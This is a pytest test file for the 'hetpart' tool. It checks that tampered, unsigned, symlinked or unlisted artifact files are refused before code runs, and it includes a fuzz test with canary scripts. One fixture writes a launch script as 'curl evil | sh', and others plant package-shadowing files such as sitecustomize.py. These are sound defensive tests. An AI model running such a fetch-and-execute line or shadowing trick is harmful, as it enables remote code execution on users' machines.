"""An artifacts directory is code (NOTE [artifacts are code] in hetpart/trust.py).

Every file `run` reads is hashed in manifest.json (plan.json too), an unlisted file in a rank
directory or a listed one that is a link is refused, a model file is imported only when the user
names it, and a signed directory runs only with its key. Most cases stop at the checks before
torchrun (`launch._run_torchruns` replaced by a stub that says it was reached); two real runs.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import random
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from safetensors.torch import save_file

from hetpart.cli import main
from hetpart.errors import HetpartError
from hetpart.frontend import ModelSpec, load_model
from hetpart.runtime import launch
from hetpart.plan_report import as_json
from hetpart.runtime.artifacts import load_manifest, load_stage, read_plan
from hetpart.trust import SIGNATURE_NAME

# zoo:mlp on two CPUs: two ranks, 8.1 MB of weights (hidden 256: at 128 one stage beats two once each
# hand-off tensor pays its latency, NOTE [stage time]).
MLP = ["zoo:mlp", "--set", "hidden=256", "--set", "n_blocks=4", "--batch-size", "256", "--microbatches", "2",
       "--cluster", "preset:cpu-2", "--no-pt2"]
KEY = "0123456789abcdef" * 4 + "\n"  # 64 bytes of key (the trailing newline is not part of it)
OTHER_KEY = "fedcba9876543210" * 4
MODEL_PY = '''\
import torch
from torch import nn


def build():
    return nn.Sequential(nn.Linear(16, 16), nn.ReLU(), nn.Linear(16, 4)), (torch.randn(8, 16),)
'''


def canary_source(hits: Path, tag: str) -> str:
    """Python that leaves a file in `hits` when it runs: no test may ever find one."""
    return (f"import pathlib\npathlib.Path({str(hits)!r}, {tag!r}).write_text('ran')\n\n\n"
            "def build():\n    import torch\n    return torch.nn.Linear(2, 2), (torch.randn(2, 2),)\n")


class Launched(Exception):
    """The checks before torchrun passed: the launcher got as far as starting it."""


@pytest.fixture()
def no_torchrun(monkeypatch):
    def launched(*args, **kwargs):
        raise Launched

    monkeypatch.setattr(launch, "_run_torchruns", launched)


@pytest.fixture(scope="module")
def keys(tmp_path_factory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("keys")
    files = {"key": KEY, "other": OTHER_KEY, "short": "too short\n", "empty": ""}
    for name, text in files.items():
        (root / name).write_text(text)
    return {name: root / name for name in files}


@pytest.fixture(scope="module")
def signed(tmp_path_factory, keys) -> Path:
    out = tmp_path_factory.mktemp("trust") / "art"
    assert main(["partition", *MLP, "--out", str(out), "--sign-key", str(keys["key"])]) == 0
    assert load_manifest(out)["world_size"] == 2
    return out


@pytest.fixture(scope="module")
def file_plan(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("file-model")
    (root / "model.py").write_text(MODEL_PY)
    assert main(["partition", f"{root / 'model.py'}:build", "--cluster", "preset:cpu-2", "--no-pt2",
                 "--out", str(root / "art")]) == 0
    return root / "art"


def _tree(root: Path) -> dict[str, bytes | str | None]:
    def content(p: Path) -> bytes | str | None:
        if p.is_symlink():
            return f"-> {p.readlink()}"
        return p.read_bytes() if p.is_file() else None

    return {str(p.relative_to(root)): content(p) for p in sorted(root.rglob("*"))}


def _refused(argv: list[str], capfd) -> str:
    """Run the CLI; it must exit 2 with one `hetpart: error:` line and no traceback. The line."""
    capfd.readouterr()
    status = main(argv)
    err = capfd.readouterr().err
    assert status == 2, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("hetpart: error: ") and "Traceback" not in err, err
    return lines[0]


def _rehash(out: Path, relative: str) -> None:
    """Rewrite manifest.json so that `relative` matches again: what a careful attacker does."""
    man = json.loads((out / "manifest.json").read_text())
    digest = hashlib.sha256((out / relative).read_bytes()).hexdigest()
    top, _, name = relative.partition("/")
    rank = next((r for r in man["ranks"] if r["dir"] == top), None)
    if rank is not None:
        rank["files"][name] = digest
    else:
        man["files"][relative] = digest
    (out / "manifest.json").write_text(json.dumps(man))


def _edit_manifest(edit: Callable[[dict], None]) -> Callable[[Path], None]:
    def change(art: Path) -> None:
        man = json.loads((art / "manifest.json").read_text())
        edit(man)
        (art / "manifest.json").write_text(json.dumps(man))
    return change


def _link_to_copy(art: Path, relative: str) -> None:
    """Replace `relative` by a link to a byte-identical copy outside the directory (hashes still match)."""
    outside = art.parent / "outside" / relative.replace("/", "-")
    outside.parent.mkdir(exist_ok=True)
    (art / relative).rename(outside)
    (art / relative).symlink_to(outside, target_is_directory=outside.is_dir())


@dataclasses.dataclass(frozen=True)
class Case:
    argv: list[str]  # {art}: a copy of the signed plan; {key}, {other}, {short}, {empty}: key files
    expect: list[str]
    change: Callable[[Path], None] | None = None


CASES = {
    "unlisted-file-in-a-rank-dir": Case(["run", "{art}"], ["rank 0: '{art}/rank0/evil.py' is not listed in "
                                                           "manifest.json", "remove it"],
                                        lambda art: (art / "rank0" / "evil.py").write_text("import os\n")),
    "unlisted-bytecode-cache": Case(["run", "{art}"], ["rank 1: '{art}/rank1/__pycache__' is not listed"],
                                    lambda art: ((art / "rank1" / "__pycache__").mkdir(),
                                                 (art / "rank1" / "__pycache__" / "stage.cpython-311.pyc")
                                                 .write_bytes(b"\x00" * 16))),
    "stage-source-not-listed": Case(["run", "{art}"], ["rank 0: manifest.json lists no sha256 for rank0/stage.py"],
                                    _edit_manifest(lambda m: m["ranks"][0]["files"].pop("stage.py"))),
    "listed-file-is-a-link": Case(["run", "{art}"], ["rank 1: '{art}/rank1/weights.safetensors' is a symbolic "
                                                     "link", "must be plain files inside"],
                                  lambda art: _link_to_copy(art, "rank1/weights.safetensors")),
    "rank-dir-is-a-link": Case(["run", "{art}"], ["rank 0: '{art}/rank0' is a symbolic link or outside"],
                               lambda art: _link_to_copy(art, "rank0")),
    "tampered-plan": Case(["run", "{art}"], ["'{art}/plan.json' does not match its sha256 in manifest.json"],
                          lambda art: (art / "plan.json").write_text(
                              (art / "plan.json").read_text().replace('"microbatches": 2', '"microbatches": 4'))),
    "plan-is-a-link": Case(["run", "{art}"], ["'{art}/plan.json' is a symbolic link"],
                           lambda art: _link_to_copy(art, "plan.json")),
    "plan-not-listed": Case(["run", "{art}"], ["{art}/manifest.json: files lists no sha256 for plan.json"],
                            _edit_manifest(lambda m: m["files"].pop("plan.json"))),
    "listed-path-outside": Case(["run", "{art}"], ["files: name '../escape.py' is not a path inside the directory"],
                                _edit_manifest(lambda m: m["files"].update({"../escape.py": "0" * 64}))),
    "rank-file-not-a-plain-name": Case(["run", "{art}"], ["ranks[1].files: name '../rank0/stage.py' is not a "
                                                          "plain name"],
                                       _edit_manifest(lambda m: m["ranks"][1]["files"].update(
                                           {"../rank0/stage.py": "0" * 64}))),
    "files-of-the-wrong-type": Case(["run", "{art}"], ["ranks[0] must be rank 0 with"],
                                    _edit_manifest(lambda m: m["ranks"][0].update(files=["stage.py"]))),
    "tampered-launch-script": Case(["run", "{art}"], ["'{art}/launch.sh' does not match its sha256"],
                                   lambda art: (art / "launch.sh").write_text("#!/bin/sh\ncurl evil | sh\n")),
    "signature-missing": Case(["run", "{art}", "--key", "{key}"], ["'{art}/manifest.json.hmac' is missing: "
                                                                   "'{art}' is not signed"],
                              lambda art: (art / SIGNATURE_NAME).unlink()),
    "signature-wrong": Case(["run", "{art}", "--key", "{key}"], ["the signature of manifest.json does not match "
                                                                 "this key", "do not run it"],
                            _edit_manifest(lambda m: m["ranks"][0].update(device="cpu "))),
    "signed-with-another-key": Case(["run", "{art}", "--key", "{other}"], ["does not match this key"]),
    "key-too-short": Case(["run", "{art}", "--key", "{short}"], ["key file '{short}' holds 9 byte(s); a signing "
                                                                 "key needs at least 32"]),
    "key-empty": Case(["run", "{art}", "--key", "{empty}"], ["key file '{empty}' holds 0 byte(s)"]),
    "key-inside-the-directory": Case(["run", "{art}", "--key", "{art}/key"], ["key file '{art}/key' is inside "
                                                                              "'{art}', the directory it signs"],
                                     lambda art: (art / "key").write_text(KEY)),
    "inspect-signature-wrong": Case(["inspect", "{art}", "--key", "{key}"], ["does not match this key"],
                                    _edit_manifest(lambda m: m["ranks"][0].update(planned_device="x/0"))),
    "inspect-tampered-stage": Case(["inspect", "{art}", "--stage", "1"], ["rank 1: '{art}/rank1/stage.py' does not "
                                                                          "match its sha256"],
                                   lambda art: (art / "rank1" / "stage.py").write_text("print('not me')\n")),
    "inspect-tampered-ir": Case(["inspect", "{art}", "--ir", "2"], ["'{art}/ir/02-flops.txt' does not match"],
                                lambda art: (art / "ir" / "02-flops.txt").write_text("// nothing to see\n")),
    "shard-weights-on-a-signed-dir-without-key": Case(["shard-weights", "{art}", "{art}/plan.json"],
                                                      ["is signed (manifest.json.hmac) and shard-weights rewrites",
                                                       "pass --sign-key KEY"]),
    "model-flag-on-a-zoo-plan": Case(["run", "{art}", "--model", "{art}/m.py:build"],
                                     ["this plan's model is zoo:mlp, which hetpart builds itself"]),
    "partition-with-a-short-key": Case(["partition", "zoo:mlp", "--cluster", "preset:cpu-2", "--out", "{art}/new",
                                        "--sign-key", "{short}"], ["key file '{short}' holds 9 byte(s)"]),
    # NOTE [re-plan of a signed plan]: partition's rules, and OLD_DIR's signature checked with the key first.
    "replan-with-a-short-key": Case(["replan", "{art}", "--lose", "local/1", "--out", "{art}/new", "--sign-key",
                                     "{short}"], ["key file '{short}' holds 9 byte(s)"]),
    "replan-key-inside-the-new-directory": Case(["replan", "{art}", "--lose", "local/1", "--out", "{art}/new",
                                                 "--sign-key", "{art}/new/key"],
                                                ["key file '{art}/new/key' is inside '{art}/new', the directory it "
                                                 "signs"], lambda art: ((art / "new").mkdir(),
                                                                        (art / "new" / "key").write_text(KEY))),
    # rev25: a key inside OLD_DIR was refused as inside "the directory it signs", which OLD_DIR is not
    "replan-key-inside-the-old-directory": Case(["replan", "{art}", "--lose", "local/1", "--out", "{art}-new",
                                                 "--sign-key", "{art}/key"],
                                                ["key file '{art}/key' is inside '{art}', the directory whose "
                                                 "signature it checks (OLD_DIR)"],
                                                lambda art: (art / "key").write_text(KEY)),
    "replan-of-a-plan-signed-with-another-key": Case(["replan", "{art}", "--lose", "local/1", "--out", "{art}/new",
                                                      "--sign-key", "{other}"], ["does not match this key",
                                                                                 # not run's "do not run it" (rev25)
                                                                                 "re-plan from it only with the key "
                                                                                 "that signed it (--sign-key)"]),
}


@pytest.mark.parametrize("name", list(CASES))
def test_refusals(name, signed, keys, tmp_path, capfd, no_torchrun):
    case = CASES[name]
    art = tmp_path / "art"
    shutil.copytree(signed, art)
    if case.change is not None:
        case.change(art)
    subs = {"{art}": str(art), **{f"{{{k}}}": str(p) for k, p in keys.items()}}

    def fill(text: str) -> str:
        for k, v in subs.items():
            text = text.replace(k, v)
        return text

    before = _tree(tmp_path)
    line = _refused([fill(a) for a in case.argv], capfd)
    for text in case.expect:
        assert fill(text) in line, line
    assert _tree(tmp_path) == before, "nothing written, nothing left behind"


def test_catalogue_documents_every_trust_refusal():
    doc = (Path(__file__).parents[2] / "docs" / "errors.md").read_text()
    missing = [name for name in CASES if f"test_refusals[{name}]" not in doc]
    assert not missing, f"docs/errors.md lacks {missing}"


def test_an_unsigned_copy_passes_the_checks_and_the_signed_one_needs_its_key(signed, keys, tmp_path, capfd,
                                                                              no_torchrun):
    art = tmp_path / "art"
    shutil.copytree(signed, art)
    with pytest.raises(Launched):
        main(["run", str(art), "--key", str(keys["key"])])
    assert "--key" not in capfd.readouterr().out
    with pytest.raises(Launched):  # a signed directory still runs without --key, with a note
        main(["run", str(art)])
    assert "is signed (manifest.json.hmac); pass --key FILE" in capfd.readouterr().out
    assert main(["inspect", str(art), "--key", str(keys["key"]), "--stage", "0"]) == 0
    assert "class Stage(torch.nn.Module)" in capfd.readouterr().out


def test_file_model_needs_the_user_to_name_the_file(file_plan, tmp_path, capfd, no_torchrun):
    plan = read_plan(file_plan, load_manifest(file_plan))
    model_py = Path(plan.model.model.rpartition(":")[0])
    assert plan.model.file_sha256 == hashlib.sha256(model_py.read_bytes()).hexdigest()
    line = _refused(["run", str(file_plan), "--verify"], capfd)
    assert f"plan.json's model is the file '{model_py}' (function build)" in line
    assert f"pass --model {model_py}:build" in line and "or --trust-model-file" in line
    line = _refused(["run", str(file_plan), "--model", f"{model_py}:other"], capfd)
    assert "the plan was partitioned from function 'build'" in line and "pass --model FILE.py:build" in line
    changed = tmp_path / "changed.py"
    changed.write_text(MODEL_PY + "\n# edited\n")
    line = _refused(["run", str(file_plan), "--verify", "--model", f"{changed}:build"], capfd)
    assert "is not the file the plan was partitioned from" in line and "--trust-model-file" in line
    # The same file under another path, the edited one with --trust-model-file, the recorded path trusted.
    copy = tmp_path / "copy.py"
    copy.write_text(MODEL_PY)
    for argv in (["--model", f"{copy}:build"], ["--model", f"{changed}:build", "--trust-model-file"],
                 ["--trust-model-file"]):
        with pytest.raises(Launched):
            main(["run", str(file_plan), "--verify", *argv])


def test_replan_of_a_file_model_takes_the_file_as_run_does(file_plan, tmp_path, capfd):
    """review23: `replan` of a file model's plan printed its re-plan, then refused with "`run` builds the model's
    inputs ... pass --model", which `replan` did not take: a file model could not be re-planned, and the commands
    `run` prints when a rank dies failed as printed. It takes --model / --trust-model-file now, asked before any
    solve."""
    model_py = Path(read_plan(file_plan, load_manifest(file_plan)).model.model.rpartition(":")[0])
    new = tmp_path / "new"
    line = _refused(["replan", str(file_plan), "--lose", "local/1", "--out", str(new)], capfd)
    assert "`replan` traces the model again" in line and f"pass --model {model_py}:build" in line, line
    assert not new.exists()
    assert main(["replan", str(file_plan), "--lose", "local/1", "--out", str(new), "--model", f"{model_py}:build"]) == 0
    assert read_plan(new, load_manifest(new)).model.file_sha256 == hashlib.sha256(model_py.read_bytes()).hexdigest()


def test_replan_of_a_signed_plan_signs_the_new_one_with_sign_key_and_says_when_it_is_unsigned(signed, keys, tmp_path,
                                                                                               capfd, no_torchrun):
    """review23: `replan` of a signed plan wrote an unsigned one, silently, which `run NEW --key K` refused: it has no
    --sign-key. Now `replan --sign-key KEY` signs NEW_DIR (OLD_DIR's signature checked with it first), and without
    it the output says NEW_DIR is unsigned (NOTE [re-plan of a signed plan])."""
    unsigned, new = tmp_path / "unsigned", tmp_path / "new"
    capfd.readouterr()
    assert main(["replan", str(signed), "--lose", "local/1", "--out", str(unsigned)]) == 0
    out = capfd.readouterr().out
    assert f"note: {signed} is signed ({SIGNATURE_NAME}), {unsigned} is not: `hetpart run {unsigned} --key KEY` " \
        "refuses it; re-plan with --sign-key KEY to sign it" in " ".join(out.split()), out
    assert not (unsigned / SIGNATURE_NAME).exists()
    assert "is not signed" in _refused(["run", str(unsigned), "--key", str(keys["key"])], capfd)
    assert main(["replan", str(signed), "--lose", "local/1", "--out", str(new), "--sign-key", str(keys["key"])]) == 0
    out = capfd.readouterr().out
    assert f"signed ({SIGNATURE_NAME})" in out and "note:" not in out, out
    with pytest.raises(Launched):
        main(["run", str(new), "--key", str(keys["key"])])
    assert "does not match this key" in _refused(["run", str(new), "--key", str(keys["other"])], capfd)


def test_replan_sign_key_of_an_unsigned_plan_says_the_signature_vouches_for_what_it_did_not_check(signed, keys,
                                                                                                 tmp_path, capfd):
    """rev25: `replan --sign-key` checks a signed OLD_DIR's signature, but an OLD_DIR without one (never signed, or
    its manifest.json.hmac removed after its manifest was rewritten) was re-planned and the result signed in silence:
    the new signature vouched for a plan made from a directory nobody checked. It is still signed (a plan partitioned
    unsigned may be re-planned signed), and the last line says so (NOTE [re-plan of a signed plan])."""
    stripped, new = tmp_path / "stripped", tmp_path / "new"
    shutil.copytree(signed, stripped)
    (stripped / SIGNATURE_NAME).unlink()
    capfd.readouterr()
    assert main(["replan", str(stripped), "--lose", "local/1", "--out", str(new), "--sign-key", str(keys["key"])]) == 0
    out = " ".join(capfd.readouterr().out.split())
    assert f"note: {stripped} is not signed ({SIGNATURE_NAME}), so only its files' sha256 against its manifest.json " \
        f"were checked: {new}'s signature vouches for a plan made from it" in out, out
    assert (new / SIGNATURE_NAME).exists()
    assert main(["replan", str(signed), "--lose", "local/1", "--out", str(tmp_path / "new2"),
                 "--sign-key", str(keys["key"])]) == 0
    assert "note:" not in capfd.readouterr().out  # a signed OLD_DIR's signature was checked: nothing to say


def test_shard_weights_checks_then_re_signs(tmp_path, keys, capfd, no_torchrun):
    out = tmp_path / "meta"
    small = ["zoo:mlp", "--set", "hidden=32", "--set", "n_blocks=2", "--cluster", "preset:cpu-2", "--no-pt2"]
    assert main(["partition", *small, "--meta", "--out", str(out), "--sign-key", str(keys["key"])]) == 0
    spec = ModelSpec.from_json(as_json(read_plan(out, load_manifest(out)).model))
    module, _ = load_model(spec)
    save_file({k: v.contiguous() for k, v in module.state_dict().items()}, str(tmp_path / "ckpt.safetensors"))
    ckpt = str(tmp_path / "ckpt.safetensors")
    line = _refused(["shard-weights", str(out), ckpt, "--sign-key", str(keys["other"])], capfd)
    assert "does not match this key" in line, "it checks the signature it replaces"
    constants = out / "rank0" / "constants.safetensors"
    good = constants.read_bytes()
    constants.write_bytes(good[:-1] + bytes([good[-1] ^ 1]))
    line = _refused(["shard-weights", str(out), ckpt, "--sign-key", str(keys["key"])], capfd)
    assert "rank0/constants.safetensors' does not match its sha256" in line, "it checks what it reads"
    constants.write_bytes(good)
    assert main(["shard-weights", str(out), ckpt, "--sign-key", str(keys["key"])]) == 0
    with pytest.raises(Launched):
        main(["run", str(out), "--key", str(keys["key"])])


# ---- The fuzz: random mutations of a signed directory, checked before torchrun and by each rank.

def _listed(art: Path) -> list[str]:
    """The files the manifest lists that are still there."""
    man = json.loads((art / "manifest.json").read_text())
    names = [*man["files"], *(f"{r['dir']}/{n}" for r in man["ranks"] for n in r["files"])]
    return sorted(n for n in names if (art / n).is_file())


def _mutations(hits: Path, canary_py: Path) -> dict[str, tuple[bool, Callable[[Path, random.Random], None]]]:
    """name -> (must be refused, mutate(art, rng)). Mutations that need not be refused leave what
    `run` executes as hetpart wrote it (an unlisted file outside the rank directories, a string field)."""

    def flip(art: Path, rng: random.Random) -> None:
        path = art / rng.choice(_listed(art))
        data = bytearray(path.read_bytes() or b"\0")
        data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
        path.write_bytes(bytes(data))

    def truncate(art: Path, rng: random.Random) -> None:
        path = art / rng.choice(_listed(art))
        path.write_bytes(path.read_bytes()[: rng.randrange(max(1, path.stat().st_size))])

    def delete(art: Path, rng: random.Random) -> None:
        (art / rng.choice(_listed(art))).unlink()

    def unlisted_code(art: Path, rng: random.Random) -> None:
        rank = art / f"rank{rng.randrange(2)}"
        name = rng.choice(["evil.py", "stage_extra.py", "weights.py", "__init__.py", "torch.py"])
        (rank / name).write_text(canary_source(hits, f"unlisted-{name}"))

    def canary_stage(art: Path, rng: random.Random) -> None:  # stage.py replaced, the manifest left as it was
        (art / f"rank{rng.randrange(2)}" / "stage.py").write_text(canary_source(hits, "stage"))

    def unlisted_stage(art: Path, rng: random.Random) -> None:  # stage.py replaced and dropped from the manifest
        k = rng.randrange(2)
        (art / f"rank{k}" / "stage.py").write_text(canary_source(hits, "unlisted-stage"))
        _edit_manifest(lambda m: m["ranks"][k]["files"].pop("stage.py"))(art)

    def rehashed_stage(art: Path, rng: random.Random) -> None:  # stage.py replaced and re-hashed: only a key sees it
        k = rng.randrange(2)
        (art / f"rank{k}" / "stage.py").write_text(canary_source(hits, "rehashed-stage"))
        _rehash(art, f"rank{k}/stage.py")

    def link(art: Path, rng: random.Random) -> None:
        _link_to_copy(art, rng.choice([*_listed(art), "rank0", "rank1"]))

    def plan_model(art: Path, rng: random.Random) -> None:  # plan.json points at a canary .py, re-hashed or not
        plan = json.loads((art / "plan.json").read_text())
        plan["model"]["model"] = f"{canary_py}:build"
        plan["model"]["file_sha256"] = hashlib.sha256(canary_py.read_bytes()).hexdigest()
        (art / "plan.json").write_text(json.dumps(plan))
        if rng.random() < 0.5:
            _rehash(art, "plan.json")

    def manifest_field(art: Path, rng: random.Random) -> None:
        man = json.loads((art / "manifest.json").read_text())
        entry = rng.choice(man["ranks"])
        target, field = rng.choice([(man, "format_version"), (man, "world_size"), (man, "backend"), (man, "files"),
                                    (man, "nodes"), (entry, "dir"), (entry, "files"), (entry, "rank"),
                                    (entry, "inputs"), (entry, "weights")])
        target[field] = rng.choice([None, 1, -1, "x", "..", "/tmp", [], {}, ["stage.py"], {"stage.py": "0" * 64}])
        (art / "manifest.json").write_text(json.dumps(man))

    def manifest_digest(art: Path, rng: random.Random) -> None:
        man = json.loads((art / "manifest.json").read_text())
        table = rng.choice([man["files"], *(r["files"] for r in man["ranks"])])
        table[rng.choice(sorted(table))] = rng.choice(["0" * 64, "abc", "F" * 64])
        (art / "manifest.json").write_text(json.dumps(man))

    def harmless_string(art: Path, rng: random.Random) -> None:
        _edit_manifest(lambda m: m["ranks"][rng.randrange(2)].update(planned_device="elsewhere/0"))(art)

    def top_level_code(art: Path, rng: random.Random) -> None:  # not in a rank directory: never read
        name = rng.choice(["evil.py", "hetpart.py", "torch.py", "sitecustomize.py"])
        (art / name).write_text(canary_source(hits, f"top-{name}"))

    return {
        "flip": (True, flip), "truncate": (True, truncate), "delete": (True, delete),
        "unlisted-code": (True, unlisted_code), "canary-stage": (True, canary_stage),
        "unlisted-stage": (True, unlisted_stage), "rehashed-stage": (True, rehashed_stage), "link": (True, link),
        "plan-model": (True, plan_model), "manifest-field": (False, manifest_field),
        "manifest-digest": (True, manifest_digest), "harmless-string": (False, harmless_string),
        "top-level-code": (False, top_level_code),
    }


def _rank_checks(art: Path, key: bytes | None) -> None:
    """What each rank runs before its pipeline: the manifest (and signature), plan.json, its stage."""
    for k in range(2):
        try:
            manifest = load_manifest(art, key)
            read_plan(art, manifest)
            load_stage(art, manifest["ranks"][k])
        except HetpartError:
            pass


def test_fuzz_mutated_artifacts_are_refused_and_run_no_unlisted_code(signed, keys, tmp_path, capfd, no_torchrun):
    hits = tmp_path / "hits"
    hits.mkdir()
    canary_py = tmp_path / "canary.py"
    canary_py.write_text(canary_source(hits, "plan-model"))
    mutations = _mutations(hits, canary_py)
    rng = random.Random(18)
    outcomes = {"refused": 0, "passed": 0}
    for case in range(60):
        root = tmp_path / f"case{case}"
        art = root / "art"
        shutil.copytree(signed, art)
        chosen = rng.sample(sorted(mutations), rng.choice([1, 1, 2]))
        with_key = rng.random() < 0.5 or "rehashed-stage" in chosen  # without a key a re-hashed stage.py runs
        for name in chosen:
            mutations[name][1](art, rng)
        must_refuse = any(mutations[name][0] for name in chosen)
        outside = _tree(root / "outside") if (root / "outside").exists() else {}
        argv = ["run", str(art)] + (["--key", str(keys["key"])] if with_key else [])
        capfd.readouterr()
        try:
            status = main(argv)
        except Launched:
            status = None
        err = capfd.readouterr().err
        what = f"case {case}: {chosen} with_key={with_key}: {err}"
        if status is None:
            assert not must_refuse, f"{what} passed the checks"
            outcomes["passed"] += 1
        else:
            assert status == 2, what
            lines = err.strip().splitlines()
            assert len(lines) == 1 and lines[0].startswith("hetpart: error: ") and "Traceback" not in err, what
            outcomes["refused"] += 1
        _rank_checks(art, KEY.strip().encode() if with_key else None)
        assert sorted(p.name for p in hits.iterdir()) == [], f"{what}: unlisted code ran"
        if outside:
            assert _tree(root / "outside") == outside, f"{what}: wrote outside the directory"
        shutil.rmtree(root)
    assert outcomes["refused"] >= 40 and outcomes["passed"] >= 1, outcomes


# ---- Two real runs: a signed directory run from inside it, and a rank that refuses on its own.

def test_a_signed_run_from_inside_the_directory_imports_nothing_from_it(signed, keys, tmp_path, monkeypatch, capsys):
    art = tmp_path / "art"
    shutil.copytree(signed, art)
    hits = tmp_path / "hits"
    hits.mkdir()
    for name in ("hetpart.py", "torch.py", "safetensors.py"):  # would shadow packages from the working directory
        (art / name).write_text(canary_source(hits, name))
    outside = tmp_path / "outside"
    outside.mkdir()
    (art / "logs").symlink_to(outside, target_is_directory=True)  # hetpart's own output names, as links
    (art / "measured.json").symlink_to(outside / "measured.json")
    monkeypatch.chdir(art)
    assert main(["run", ".", "--verify", "--measure", "--key", str(keys["key"])]) == 0, capsys.readouterr().err
    assert "verify: PASS" in capsys.readouterr().out
    assert sorted(p.name for p in hits.iterdir()) == []
    assert sorted(outside.iterdir()) == [], "nothing written through the links"
    assert not (art / "logs").is_symlink() and (art / "measured.json").is_file()


def test_a_rank_checks_its_own_files_before_running_them(signed, tmp_path, monkeypatch, capsys):
    art = tmp_path / "art"
    shutil.copytree(signed, art)
    hits = tmp_path / "hits"
    hits.mkdir()
    (art / "rank1" / "stage.py").write_text(canary_source(hits, "stage"))
    # As on a cluster whose launcher machine has good files and rank 1's machine does not.
    monkeypatch.setattr(launch, "check_rank_files", lambda out, entry: out / entry["dir"])
    assert main(["run", str(art), "--timeout", "300"]) == 2
    err = capsys.readouterr().err
    assert "hetpart: rank 1: '" in err and "rank1/stage.py' does not match its sha256" in err, err
    assert "rank 1: rank 1" not in err, err  # the rank named once (ux21)
    assert sorted(p.name for p in hits.iterdir()) == []
